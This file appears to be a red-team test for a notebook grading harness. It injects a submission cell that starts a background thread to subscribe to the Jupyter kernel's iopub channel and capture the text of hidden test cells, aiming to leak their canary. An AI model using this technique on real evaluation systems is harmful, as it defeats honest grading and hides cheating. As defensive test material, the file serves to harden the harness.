"""A thread listens to the kernel's own broadcast, which repeats the text of each cell.

Success: the canary of the hidden tests.
"""

from tests.red_team.submission import SHOW


def attack(submission):
    submission.first(
        SHOW
        + """
import glob, json, os, threading, time
heard = []

def listen():
    import zmq
    from ipykernel import get_connection_file
    about = json.load(open(get_connection_file()))
    socket = zmq.Context().socket(zmq.SUB)
    socket.connect(f"tcp://127.0.0.1:{about['iopub_port']}")
    socket.subscribe(b"")
    while True:
        heard.append(b" ".join(socket.recv_multipart()))

threading.Thread(target=listen, daemon=True).start()
time.sleep(1)
"""
    )
    submission.add("import time\ntime.sleep(1)\nshow(b' '.join(heard))")
